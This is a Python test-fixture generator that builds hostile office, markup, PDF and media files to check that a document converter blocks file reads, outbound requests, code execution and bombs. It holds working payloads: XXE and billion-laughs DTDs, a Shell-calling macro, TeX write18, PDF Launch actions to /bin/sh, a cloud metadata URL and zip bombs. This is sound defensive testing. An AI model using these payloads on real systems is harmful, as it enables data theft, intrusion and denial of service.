"""Documents that try to read a file, call a server, run something or grow without end, made anew for each run.

cases(bait) gives (file name, bytes, the ways it may end). What they reach for is the bait: an address that listens and files that
tell on whoever has read them. Nothing in a result may show the marks in those files.
"""

import dataclasses
import io
import json
import random
import struct
import zipfile
import zlib

OK = frozenset({"completed"})
INVALID = frozenset({"input_invalid"})
TOO_LARGE = frozenset({"input_too_large"})
# The engine may refuse such a document or leave out what it may not have.
EITHER = frozenset({"completed", "input_invalid", "engine_failed"})
REFUSED = frozenset({"input_invalid", "engine_failed"})


@dataclasses.dataclass
class Bait:
    url: str  # of the listener, without a slash at the end
    texts: list  # paths of files whose text is the mark
    pictures: list  # paths of pictures in the colour of the mark
    script: str  # a path that must never appear


@dataclasses.dataclass
class HostileCase:
    name: str
    data: bytes
    ends: frozenset = EITHER
    to: str = ""  # the target in the short form; empty: the first that is preferred
    kept: str = ""  # what a completed text result must still say


def zipped(members, stored=("mimetype",)):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name), data, how)
    return buffer.getvalue()


# Office Open XML

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SLIDE_TYPE = "application/vnd.openxmlformats-officedocument.presentationml"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(*overrides):
    rows = "".join(f'<Override PartName="{part}" ContentType="{kind}+xml"/>' for part, kind in overrides)
    return (
        f'{XML}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>{rows}</Types>'
    )


def relations(*rows):
    """(id, type, target) or (id, type, target, "External")."""
    text = "".join(
        f'<Relationship Id="{id}" Type="{RELATION}/{kind}" Target="{target}"' + (f' TargetMode="{mode[0]}"/>' if mode else "/>")
        for id, kind, target, *mode in rows
    )
    return f'{XML}<Relationships xmlns="{PACKAGE}/relationships">{text}</Relationships>'


def docx(body, links=(), prolog="", more=(), settings=""):
    settings_part = f'{XML}<w:settings xmlns:w="{WORD}" xmlns:r="{RELATION}">{settings}</w:settings>'
    return zipped(
        [
            ("[Content_Types].xml", content_types(("/word/document.xml", WORD_TYPE + ".document.main"), ("/word/settings.xml", WORD_TYPE + ".settings"))),
            ("_rels/.rels", relations(("r1", "officeDocument", "word/document.xml"))),
            ("word/document.xml", f'{XML}{prolog}<w:document xmlns:w="{WORD}" xmlns:r="{RELATION}"><w:body>{body}</w:body></w:document>'),
            ("word/_rels/document.xml.rels", relations(("set", "settings", "settings.xml"), *links)),
            ("word/settings.xml", settings_part),
            *more,
        ]
    )


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def field(instruction):
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>old</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def linked_picture(id):
    drawing, picture = "http://schemas.openxmlformats.org/drawingml/2006/main", "http://schemas.openxmlformats.org/drawingml/2006/picture"
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        f'<wp:extent cx="900000" cy="900000"/><wp:docPr id="{abs(hash(id)) % 9999 + 1}" name="{id}"/><a:graphic xmlns:a="{drawing}"><a:graphicData uri="{picture}">'
        f'<pic:pic xmlns:pic="{picture}"><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{id}"/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
    )


def xlsx(cells, links=(), more=(), books="", types=()):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>{formula}</f></c></row>' for n, formula in enumerate(cells, 2))
    first = '<row r="1"><c r="A1" t="inlineStr"><is><t>visible sheet</t></is></c></row>'
    return zipped(
        [
            ("[Content_Types].xml", content_types(("/xl/workbook.xml", SHEET_TYPE + ".sheet.main"), ("/xl/worksheets/sheet1.xml", SHEET_TYPE + ".worksheet"), *types)),
            ("_rels/.rels", relations(("r1", "officeDocument", "xl/workbook.xml"))),
            ("xl/workbook.xml", f'{XML}<workbook xmlns="{main}" xmlns:r="{RELATION}"><sheets><sheet name="S" sheetId="1" r:id="s1"/></sheets>{books}</workbook>'),
            ("xl/_rels/workbook.xml.rels", relations(("s1", "worksheet", "worksheets/sheet1.xml"), *links)),
            ("xl/worksheets/sheet1.xml", f'{XML}<worksheet xmlns="{main}"><sheetData>{first}{rows}</sheetData></worksheet>'),
            *more,
        ]
    )


def pptx(bait):
    p, a = "http://schemas.openxmlformats.org/presentationml/2006/main", "http://schemas.openxmlformats.org/drawingml/2006/main"
    picture = (
        '<p:pic><p:nvPicPr><p:cNvPr id="{n}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="{id}"/><a:stretch><a:fillRect/></a:stretch>'
        '</p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )
    tree = (
        '<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
        + picture.format(n=2, id="x1") + picture.format(n=3, id="x2") + "</p:spTree></p:cSld>"
    )
    return zipped(
        [
            ("[Content_Types].xml", content_types(("/ppt/presentation.xml", SLIDE_TYPE + ".presentation.main"), ("/ppt/slides/slide1.xml", SLIDE_TYPE + ".slide"))),
            ("_rels/.rels", relations(("r1", "officeDocument", "ppt/presentation.xml"))),
            ("ppt/presentation.xml", f'{XML}<p:presentation xmlns:p="{p}" xmlns:r="{RELATION}"><p:sldIdLst><p:sldId id="256" r:id="s1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>'),
            ("ppt/_rels/presentation.xml.rels", relations(("s1", "slide", "slides/slide1.xml"))),
            ("ppt/slides/slide1.xml", f'{XML}<p:sld xmlns:p="{p}" xmlns:a="{a}" xmlns:r="{RELATION}">{tree}</p:sld>'),
            ("ppt/slides/_rels/slide1.xml.rels", relations(("x1", "image", bait.url + "/pptx.png", "External"), ("x2", "image", "file://" + bait.pictures[0], "External"))),
        ]
    )


# OpenDocument

SPACES = "".join(
    f' xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in [("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table"), ("style", "style"), ("script", "script"),
                         ("svg", "svg-compatible"), ("fo", "xsl-fo-compatible"), ("presentation", "presentation"), ("form", "form")]
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" xmlns:xi="http://www.w3.org/2001/XInclude"'
KINDS = {"odt": "text", "ods": "spreadsheet", "odp": "presentation", "odg": "graphics"}
OPEN = "application/vnd.oasis.opendocument."


def frame(target, id="f"):
    return (
        f'<draw:frame draw:name="{id}" svg:width="2cm" svg:height="2cm" svg:x="1cm" svg:y="1cm" draw:z-index="0"><draw:image xlink:href="{target}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
    )


def flat(kind, body, scripts="", prolog=""):
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<office:document{SPACES} office:version="1.2" office:mimetype="{OPEN}{KINDS[kind]}">'
        f"{scripts}<office:body><office:{'drawing' if kind == 'odg' else KINDS[kind]}>{body}</office:{'drawing' if kind == 'odg' else KINDS[kind]}></office:body></office:document>"
    ).encode()


def packed(kind, body, scripts="", prolog="", more=()):
    inner = "drawing" if kind == "odg" else KINDS[kind]
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}<office:document-content{SPACES} office:version="1.2">{scripts}<office:body>'
        f"<office:{inner}>{body}</office:{inner}></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{OPEN}{KINDS[kind]}"/>'
        + "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>' for name in ("content.xml", "styles.xml"))
        + "</manifest:manifest>"
    )
    styles = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles{SPACES} office:version="1.2">'
        "<office:font-face-decls/><office:styles/><office:automatic-styles/><office:master-styles/></office:document-styles>"
    )
    return zipped([("mimetype", OPEN + KINDS[kind]), ("content.xml", content), ("styles.xml", styles), ("META-INF/manifest.xml", manifest), *more])


def text_links(bait):
    sections = "".join(
        f'<text:section text:name="s{n}"><text:section-source xlink:href="{target}" xlink:type="simple" text:filter-name="Text"/><text:p>old</text:p></text:section>'
        for n, target in enumerate(["file://" + path for path in bait.texts] + [bait.url + "/section.txt"])
    )
    pictures = "".join(f"<text:p>{frame(target, f'p{n}')}</text:p>" for n, target in enumerate(
        ["file://" + path for path in bait.pictures] + [bait.url + "/picture.png", "//127.0.0.1/share/x.png", "\\\\127.0.0.1@9099\\share\\x.png"]))
    other = (
        f'<text:p><draw:frame draw:name="o" svg:width="3cm" svg:height="3cm"><draw:object xlink:href="file://{bait.texts[0]}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
        f'<draw:frame draw:name="i" svg:width="3cm" svg:height="3cm"><draw:floating-frame xlink:href="{bait.url}/frame.html" xlink:type="simple"/></draw:frame>'
        f'<draw:frame draw:name="g" svg:width="3cm" svg:height="3cm"><draw:plugin xlink:href="{bait.url}/plugin.mp4" xlink:type="simple"/></draw:frame></text:p>'
        f'<text:p><xi:include href="file://{bait.texts[0]}" parse="text"/></text:p>'
    )
    return "<text:p>visible text</text:p>" + sections + pictures + other


def sheet_links(bait):
    formulas = [
        f'of:=WEBSERVICE(&quot;{bait.url}/webservice&quot;)', f"of:='file://{bait.texts[0]}'#$Sheet1.A1", f'of:=DDE(&quot;soffice&quot;;&quot;{bait.texts[0]}&quot;;&quot;A1&quot;)',
        f'of:=HYPERLINK(&quot;{bait.url}/hyperlink&quot;)', "of:=INFO(&quot;directory&quot;)", f'of:=SUM(\'{bait.url}/x.ods\'#$Sheet1.A1)',
    ]
    cells = "".join(f'<table:table-row><table:table-cell table:formula="{formula}" office:value-type="string"/></table:table-row>' for formula in formulas)
    linked = "".join(
        f'<table:table table:name="L{n}"><table:table-source xlink:href="{target}" xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all"/>'
        "<table:table-row><table:table-cell/></table:table-row></table:table>"
        for n, target in enumerate(["file://" + bait.texts[0], bait.url + "/table.csv"])
    )
    shapes = f'<table:shapes>{frame("file://" + bait.pictures[0])}{frame(bait.url + "/sheet.png", "q")}</table:shapes>'
    visible = '<table:table-row><table:table-cell office:value-type="string"><text:p>visible sheet</text:p></table:table-cell></table:table-row>'
    return f'<table:table table:name="S">{shapes}{visible}{cells}</table:table>{linked}'


def page_links(bait):
    return (
        f'<draw:page draw:name="1">{frame("file://" + bait.pictures[0])}{frame(bait.url + "/page.png", "q")}'
        '<draw:frame draw:name="t" svg:width="9cm" svg:height="2cm" svg:x="1cm" svg:y="5cm"><draw:text-box><text:p>visible page</text:p></draw:text-box></draw:frame></draw:page>'
    )


def macros(bait):
    basic = f'Sub Main\nOpen "{bait.script}" For Output As #1\nPrint #1, "macro"\nClose #1\nShell("/bin/touch", 0, "{bait.script}")\nEnd Sub'
    library = (
        '<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office">'
        '<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="Module1"><ooo:source-code>' + basic.replace("&", "&amp;").replace("<", "&lt;")
        + "</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>"
    )
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:{event}" xlink:type="simple" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>' for event in ("load", "unload", "DOMContentLoaded")
    )
    return library + f"<office:event-listeners>{events}</office:event-listeners></office:scripts>"


def external_entity(path):
    return f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{path}"><!ENTITY % remote SYSTEM "http://127.0.0.1:9099/dtd">%remote;]>'


def laughs():
    return "<!DOCTYPE x [<!ENTITY a0 \"ha\">" + "".join(f'<!ENTITY a{n} "{"&a%d;" % (n - 1) * 10}">' for n in range(1, 10)) + "]>"


# Text with markup

def html(bait):
    files = "".join(f'<img src="file://{p}"><iframe src="file://{p}"></iframe><object data="file://{p}"></object><embed src="file://{p}">' for p in bait.texts + bait.pictures)
    return f"""<!DOCTYPE html><html><head><title>visible page</title><meta http-equiv="refresh" content="0;url={bait.url}/refresh">
<link rel="stylesheet" href="{bait.url}/style.css"><link rel="stylesheet" href="file://{bait.texts[0]}"><base href="{bait.url}/base/">
<style>@import url("{bait.url}/import.css"); body {{ background: url("{bait.url}/background.png") }}</style>
<script src="{bait.url}/script.js"></script><script>fetch("{bait.url}/fetch")</script></head><body background="{bait.url}/body.png">
<p>visible words</p>{files}<iframe src="{bait.url}/frame"></iframe><iframe src="http://169.254.169.254/latest/meta-data/"></iframe>
<img src="{bait.url}/image.png"><img src="relative.png"><img src="\\\\127.0.0.1\\share\\x.png"><img src="//127.0.0.1:9099/unc.png"><img srcset="{bait.url}/set.png 2x">
<video src="{bait.url}/v.mp4" poster="{bait.url}/poster.png"></video><audio src="{bait.url}/a.mp3"></audio><form action="{bait.url}/form"><input type="image" src="{bait.url}/i.png"></form>
<svg><image xlink:href="file://{bait.pictures[0]}"/></svg><table background="{bait.url}/table.png"><tr><td>cell</td></tr></table></body></html>""".encode()


def markdown(bait):
    files = "\n".join(f"![p]({p}) ![f](file://{p}) ![u](../../../..{p})\n" for p in bait.pictures + bait.texts)
    return f"""---
title: visible title
bibliography: {bait.texts[0]}
csl: {bait.url}/style.csl
include-before: {bait.texts[0]}
---

visible words

{files}
![remote]({bait.url}/md.png) <img src="file://{bait.pictures[0]}"> <iframe src="{bait.url}/md-frame"></iframe>

!include {bait.texts[0]}

{{{{< include {bait.texts[0]} >}}}} ${{{{ {bait.texts[0]} }}}}

```{{.include}}
{bait.texts[0]}
```

`<w:instrText>INCLUDETEXT "{bait.texts[0]}"</w:instrText>`{{=openxml}}
""".encode()


def rst(bait):
    return "\n\n".join(
        ["visible words"]
        + [f".. {directive} {path}" for path in bait.texts for directive in ("include::", "literalinclude::", "image::", "figure::")]
        + [f".. csv-table:: t\n   :file: {bait.texts[0]}", f".. csv-table:: u\n   :url: {bait.url}/table.csv", f".. raw:: html\n   :file: {bait.texts[0]}",
           f".. raw:: html\n   :url: {bait.url}/raw.html", f".. include:: {bait.texts[0]}\n   :code: text", f".. image:: {bait.url}/rst.png", f".. image:: {bait.pictures[0]}"]
    ).encode() + b"\n"


def rst_harmless(bait):
    return f"visible words\n\n.. image:: {bait.pictures[0]}\n\n.. image:: {bait.url}/rst.png\n".encode()


def tex(bait):
    path = bait.texts[0]
    return f"""\\documentclass{{article}}\\usepackage{{{path[:-4]}}}\\usepackage{{graphicx}}
\\immediate\\write18{{touch {bait.script}}}\\newread\\f\\openin\\f={path}
\\begin{{document}}visible words
\\input{{{path}}}\\include{{{path[:-4]}}}\\verbatiminput{{{path}}}\\lstinputlisting{{{path}}}\\subfile{{{path}}}\\input|"cat {path}"
\\includegraphics{{{bait.pictures[0]}}}\\includegraphics{{{bait.url}/tex.png}}
\\end{{document}}""".encode()


def org(bait):
    return f"""#+TITLE: visible title
#+SETUPFILE: {bait.texts[0]}
#+INCLUDE: "{bait.texts[0]}" src text
#+INCLUDE: "{bait.url}/org.txt"

visible words

[[file:{bait.pictures[0]}]] [[{bait.url}/org.png]]

#+BEGIN_SRC sh :results output :exports both
touch {bait.script}
#+END_SRC
""".encode()


def notebook(bait):
    cell = f"visible words\n\n![p]({bait.pictures[0]}) ![u]({bait.url}/nb.png) <img src='file://{bait.pictures[0]}'> <iframe src='{bait.url}/nb'></iframe>"
    output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"<img src='{bait.url}/out.png'>", "image/svg+xml": f"<svg><image href='{bait.url}/o.svg'/></svg>"}}
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": [f"open('{bait.script}', 'w')"], "outputs": [output]}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": [cell]}, code]}).encode()


def epub(bait, member="EPUB/c.xhtml", prolog="<!DOCTYPE html>", entity=""):
    page = (
        f'<?xml version="1.0"?>\n{prolog}<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title><link rel="stylesheet" href="{bait.url}/epub.css"/></head><body><p>visible words {entity}</p>'
        f'<img src="file://{bait.pictures[0]}" alt=""/><img src="../../../../../../..{bait.pictures[0]}" alt=""/><img src="{bait.url}/epub.png" alt=""/>'
        f'<iframe src="{bait.url}/epub-frame"></iframe><iframe src="file://{bait.texts[0]}"></iframe></body></html>'
    )
    package = (
        '<?xml version="1.0"?>\n<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier>'
        f'<dc:title>visible title</dc:title><dc:language>en</dc:language></metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/><item id="p" href="{bait.texts[0]}" media-type="text/plain"/>'
        '</manifest><spine><itemref idref="c"/></spine></package>'
    )
    container = '<?xml version="1.0"?>\n<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="EPUB/p.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    return zipped([("mimetype", "application/epub+zip"), ("META-INF/container.xml", container), ("EPUB/p.opf", package), (member, page)])


def rtf(bait):
    parts = [f'{{\\field{{\\*\\fldinst {instruction}}}{{\\fldrslt old}}}}\\par\n' for instruction in (
        f'INCLUDETEXT "{bait.texts[0]}"', f'INCLUDEPICTURE "{bait.url}/rtf.png" \\\\d', f'INCLUDEPICTURE "file://{bait.pictures[0]}" \\\\d', f'DDEAUTO soffice "{bait.texts[0]}" A1', f'IMPORT "{bait.pictures[0]}"')]
    return ("{\\rtf1\\ansi{\\*\\template " + bait.url + "/x.dotm}visible words\\par\n" + "".join(parts)
            + f"{{\\object\\objautlink\\objupdate{{\\*\\objclass Package}}{{\\*\\objdata 01050000}}{{\\*\\objalias {bait.texts[0]}}}}}}}").encode()


def svg(bait, prolog="", body=""):
    files = "".join(f'<image x="0" y="0" width="40" height="40" xlink:href="file://{p}"/><image x="0" y="40" width="40" height="40" xlink:href="..{p}"/><image href="{p}" width="9" height="9"/>' for p in bait.pictures)
    return f"""<?xml version="1.0"?>
<?xml-stylesheet type="text/css" href="{bait.url}/sheet.css"?><?xml-stylesheet type="text/css" href="file://{bait.texts[0]}"?>{prolog}
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="200" height="200">
<style>@import url("{bait.url}/import.css"); @import url("file://{bait.texts[0]}"); @font-face {{ font-family: f; src: url("{bait.url}/font.ttf") }}</style>
<script xlink:href="{bait.url}/script.js"/><script>fetch("{bait.url}")</script>{files}<image width="9" height="9" xlink:href="{bait.url}/svg.png"/>
<use xlink:href="file://{bait.texts[0]}#x"/><use xlink:href="{bait.url}/use.svg#x"/><text x="5" y="90"><xi:include href="file://{bait.texts[0]}" parse="text"/>{body}</text>
<xi:include href=".?../../../../../../..{bait.texts[0]}" parse="text"/><foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{bait.url}/frame"/></foreignObject>
<filter id="f"><feImage xlink:href="file://{bait.pictures[0]}"/></filter><rect width="50" height="50" filter="url(#f)"/><rect y="60" width="9" height="9" fill="url({bait.url}/paint.svg#p)"/></svg>""".encode()


# PDF

def pdf(objects, trailer=""):
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    return bytes(out + f"trailer<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\nstartxref\n{table}\n%%EOF\n".encode())


def stream(data, dictionary=""):
    return f"<<{dictionary}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def pdf_page(text="visible words", box="0 0 200 200", more="", contents=None):
    """The first five objects: catalog, pages, page, contents, font."""
    drawn = contents if contents is not None else stream(f"BT /F 12 Tf 10 100 Td ({text}) Tj ET".encode())
    return ["<</Type/Pages/Kids[3 0 R]/Count 1>>", f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>{more}>>>>", drawn,
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"]


def pdf_actions(bait):
    actions = [f"<</S/URI/URI({bait.url}/uri)>>", f"<</S/Launch/F({bait.script})/Unix<</F(/bin/sh)>>>>", f"<</S/GoToR/F(file://{bait.texts[0]})/D[0/Fit]>>",
               f"<</S/JavaScript/JS(app.launchURL\\('{bait.url}/js'\\))>>", f"<</S/SubmitForm/F<</FS/URL/F({bait.url}/form)>>>>", f"<</S/ImportData/F({bait.texts[0]})>>"]
    chain = "[" + "".join(actions) + "]"
    return pdf([f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI({bait.url}/open)/Next {chain}>>/AA<</WC{actions[3]}>>/Names<</EmbeddedFiles<</Names[(x.sh)6 0 R]>>>>>>",
                *pdf_page(), "<</Type/Filespec/F(../../x.sh)/EF<</F 7 0 R>>>>", stream(b"#!/bin/sh\ntouch " + bait.script.encode(), "/Type/EmbeddedFile")])


def pdf_outside(bait):
    picture = f"<</Type/XObject/Subtype/Image/Width 40/Height 40/ColorSpace/DeviceRGB/BitsPerComponent 8/F(file://{bait.pictures[0]})/Length 0>>stream\n\nendstream"
    drawn = stream(b"BT /F 12 Tf 10 100 Td (visible words) Tj ET q 50 0 0 50 0 0 cm /I Do Q /R Do")
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", *pdf_page(more="/XObject<</I 6 0 R/R 7 0 R>>", contents=drawn), picture,
                stream(b"", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F({bait.url}/ref.pdf)>>/Page 0>>/F({bait.texts[0]})")])


def pdf_bomb():
    """A stream of 1 GiB in 1 MiB, twice deflated to 3 KiB."""
    once = zlib.compress(b"\0" * (64 << 20), 9)
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", *pdf_page(contents=stream(zlib.compress(once * 16, 9), "/Filter[/FlateDecode/FlateDecode]"))])


def pdf_of_pages(count):
    first = 6
    kids = " ".join(f"{number} 0 R" for number in range(first, first + count))
    _, page, *rest = pdf_page()
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Kids[{kids}]/Count {count}>>", "null", *rest, *[page] * count])


# Pictures, sound and film

def png(width, height, rows=b"", colour=2, depth=8):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def gif(width, height):
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\0;"


def jpeg(width, height):
    return b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + bytes([1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]) + b"\xff\xd9"


def tiff(width, height):
    rows = [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, 4)]
    return b"II*\0" + struct.pack("<I", 12) + b"\0\0\0\0" + struct.pack("<H", len(rows)) + b"".join(struct.pack("<HHII", *row) for row in rows) + b"\0\0\0\0"


def bmp(width, height):
    return b"BM" + struct.pack("<IHHI", 1000, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0) + b"\0" * 900


def webp(width, height):
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heif(brand, width, height):
    def box(kind, data):
        return struct.pack(">I", len(data) + 8) + kind + data
    size = box(b"ispe", b"\0\0\0\0" + struct.pack(">II", width, height))
    meta = box(b"meta", b"\0\0\0\0" + box(b"hdlr", b"\0" * 8 + b"pict" + b"\0" * 13) + box(b"iprp", box(b"ipco", size)))
    return box(b"ftyp", brand + b"\0\0\0\0" + brand + b"mif1") + meta


def playlists(bait):
    path = bait.texts[0]
    hls = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{bait.url}/segment.ts\n#EXTINF:10.0,\nfile://{path}\n#EXTINF:1,\nconcat:file://{path}|{bait.url}/x\n#EXT-X-ENDLIST\n"
    concat = f"ffconcat version 1.0\nfile '{path}'\nfile '{bait.url}/x'\n"
    dash = f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1" mimeType="video/mp4"><BaseURL>{bait.url}/d.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>'
    sdp = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 9099 RTP/AVP 0\n"
    return {"hls": hls, "concat": concat, "dash": dash, "sdp": sdp, "url": f"[InternetShortcut]\nURL={bait.url}/shortcut\n"}


def mov_elsewhere(bait):
    """A QuickTime film whose sound lies in another file."""
    def box(kind, data):
        return struct.pack(">I", len(data) + 8) + kind + data
    matrix = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
    place = f"file://{bait.texts[0]}".encode() + b"\0"
    entries = box(b"dref", struct.pack(">II", 0, 2) + box(b"url ", b"\0\0\0\0" + place) + box(b"alis", b"\0\0\0\0" + b"\0" * 150))
    sound = box(b"sowt", b"\0" * 6 + struct.pack(">HHHIHHHHI", 1, 0, 0, 0, 1, 16, 0, 0, 8000 << 16))
    table = box(b"stbl", box(b"stsd", struct.pack(">II", 0, 1) + sound) + box(b"stts", struct.pack(">IIII", 0, 1, 16, 1)) + box(b"stsc", struct.pack(">IIIII", 0, 1, 1, 16, 1))
                + box(b"stsz", struct.pack(">III", 0, 2, 16)) + box(b"stco", struct.pack(">III", 0, 1, 0)))
    media = box(b"mdia", box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 8000, 16, 0, 0)) + box(b"hdlr", b"\0" * 8 + b"soun" + b"\0" * 13)
                + box(b"minf", box(b"smhd", b"\0" * 8) + box(b"dinf", entries) + table))
    track = box(b"trak", box(b"tkhd", struct.pack(">IIIIII", 7, 0, 0, 1, 0, 16) + b"\0" * 16 + matrix + b"\0" * 8) + media)
    header = box(b"mvhd", struct.pack(">IIIIIIH", 0, 0, 0, 8000, 16, 0x10000, 0x100) + b"\0" * 10 + matrix + b"\0" * 24 + struct.pack(">I", 2))
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", header + track) + box(b"mdat", b"\0" * 64)


# Archives that grow

def zip_bomb(size_mib=250):
    body = paragraph("a" * 1000).encode()
    return docx(body.decode() * (size_mib * 1048576 // len(body)))


def many_entries():
    return docx(paragraph("visible words"), more=[(f"word/media/{n}", b"") for n in range(10_500)])


def nested_archives():
    inner = b"\0" * (1 << 20)
    for _ in range(4):
        inner = zipped([(f"{n}.zip", inner) for n in range(4)])
